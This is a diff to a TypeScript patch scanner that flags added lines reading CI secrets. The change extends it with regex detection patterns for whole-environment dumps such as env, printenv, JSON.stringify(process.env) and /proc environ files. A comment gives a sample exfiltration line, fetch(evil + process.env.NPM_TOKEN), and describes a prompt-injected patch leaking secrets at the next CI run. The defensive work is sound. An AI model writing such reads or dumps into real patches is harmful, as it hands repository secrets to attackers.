@@ -9,8 +9,10 @@ import type { FilePatch } from "./types.js";
  * its push and pull_request workflows run with the repository's secrets: a prompt-injected patch that reads
  * one in a test (`fetch(evil + process.env.NPM_TOKEN)`) would send it out at the next CI run, before anyone
  * reviews the PR. A line the patch only removes, or moves unchanged, reads nothing new; setting a fake value
- * (`process.env.API_TOKEN = "test"`) is not a read. Names and forms only: a name built at run time or the
- * whole environment dumped is not seen, so this narrows what a patch can do, it does not seal it.
+ * (`process.env.API_TOKEN = "test"`) is not a read. The whole environment printed or serialised (`env`,
+ * `JSON.stringify(process.env)`, `print(os.environ)`) is one read of them all. Names and forms only: a name
+ * built at run time, or the environment walked in a loop, is not seen, so this narrows what a patch can do,
+ * it does not seal it.
  */
 export function findSecretEnvReads(fp: FilePatch, oldContent: string | null): Finding[] {
   if (fp.status === "deleted") return [];
@@ -24,7 +26,11 @@ export function findSecretEnvReads(fp: FilePatch, oldContent: string | null): Fi
       if (l.kind !== "+" || removed.has(l.text.trim())) continue;
       const read = secretRead(l.text, shell, make);
       if (read === undefined) continue;
-      const what = read === "secrets" ? "every Actions secret" : /^(secrets\.|github\.token$)/.test(read) ? `the Actions secret ${read}` : `the environment variable ${read}, named like a secret,`;
+      const what =
+        read === "secrets" ? "every Actions secret"
+        : read === WHOLE_ENV ? "the whole environment (every secret the job has, whatever its name)"
+        : /^(secrets\.|github\.token$)/.test(read) ? `the Actions secret ${read}`
+        : `the environment variable ${read}, named like a secret,`;
       return [{
         rule: "read_secrets",
         file: fp.path,
@@ -36,8 +42,9 @@ export function findSecretEnvReads(fp: FilePatch, oldContent: string | null): Fi
   return [];
 }
 
-/** The secret-named variable (or `secrets.X`) the line reads, if any. */
+/** The secret-named variable (or `secrets.X`, or WHOLE_ENV) the line reads, if any. */
 function secretRead(line: string, shell: boolean, make: boolean): string | undefined {
+  if (CODE_DUMP.test(line) || (shell && SHELL_DUMPS.some((re) => re.test(line))) || (make && MAKE_DUMP.test(line))) return WHOLE_ENV;
   for (const re of CODE_READS) {
     for (const m of line.matchAll(re)) {
       const after = line.slice(m.index + m[0].length);
@@ -109,5 +116,33 @@ const SHELL_SYNTAX_FILE = /^(Dockerfile.*|.+\.dockerfile|Containerfile|package\.
 const SHELL_READ = /\$\{?[#!]?([A-Za-z_]\w*)/g;
 /** make expands `$(NPM_TOKEN)` from the environment; in a shell it would be a command. */
 const MAKE_READ = /\$[({]([A-Za-z_]\w*)[)}]/g;
+/** What secretRead answers for a line that prints or serialises the whole environment. */
+const WHOLE_ENV = "*";
+/**
+ * The whole environment as an object in code, not one variable of it (`process.env.X`, `os.environ["X"]`,
+ * `ENV.fetch`). Ruby's bare `ENV` only after `puts`/`p`/`pp` (DUMP_RUBY): elsewhere it is often a constant.
+ */
+const ENV_OBJECT = String.raw`(?:process\.env|Bun\.env|import\.meta\.env|Deno\.env\.toObject\(\s*\)|(?:dict\(\s*)?os\.environ(?:\.copy\(\s*\))?\)?|System\.getenv\(\s*\)|os\.Environ\(\s*\)|ENV\.(?:to_h|to_hash|to_a|inspect)|\$_ENV|\$_SERVER|%ENV)(?![\w$.[])`;
+/**
+ * The whole environment printed or serialised, where one line sends every secret out at once: handed to
+ * something that writes or encodes it. Handed on to a child process (`{ ...process.env }`, `os.environ.copy()`,
+ * `append(os.Environ(), …)`) it is not.
+ */
+const CODE_DUMP = new RegExp(
+  String.raw`(?<![\w$.])(?:console\.\w+|print|println|printf|pprint|puts|pp?|JSON\.stringify|json\.dumps?|util\.inspect|fmt\.\w+|System\.(?:out|err)\.print\w*|(?:log|logger|logging)\.\w+|repr|str|yaml\.(?:safe_)?dump|var_dump|print_r|var_export|json_encode|Dumper)(?:\s*\(\s*|\s+)${ENV_OBJECT}` +
+    String.raw`|(?<![\w$.])(?:puts|pp?)\s+ENV(?![\w$.[])`,
+);
+/**
+ * The same in shell: `env` or `printenv` alone (piped, redirected, or as `$(env)`), `export -p`, `declare -p`,
+ * a bare `set`, or a process's /proc environ file; in a Makefile recipe after make's `@` or `-`. `env
+ * NODE_ENV=test cmd`, `/usr/bin/env python3` and `set -e` run a command or set an option.
+ */
+const DUMP_COMMAND = String.raw`(?:sudo\s+)?(?:env|printenv|export\s+-p|declare\s+-[a-zA-Z]*[px][a-zA-Z]*|set|compgen\s+-[ve])\s*(?=$|[|>;&#])`;
+const SHELL_DUMPS = [
+  new RegExp(String.raw`(?:^|[;&|]|\bRUN\s+|\brun:\s*)\s*${DUMP_COMMAND}`),
+  /\$\(\s*(?:env|printenv|export\s+-p|set)\s*\)|`\s*(?:env|printenv|set)\s*`/,
+  /\/proc\/(?:self|\$\$|\d+|\*|\$\{?\w+\}?)\/environ\b/,
+];
+const MAKE_DUMP = new RegExp(String.raw`^\t[@-]*\s*${DUMP_COMMAND}`);
 /** `${{ secrets.X }}`, `${{ secrets['X'] }}`, `${{ toJSON(secrets) }}`, `${{ github.token }}` in Actions YAML. */
 const ACTIONS_SECRET = /\$\{\{[^}]*?(?:\bsecrets\b(?:\.([\w-]+)|\[\s*'([^']+)'\s*\])?|\bgithub\.token\b)/;
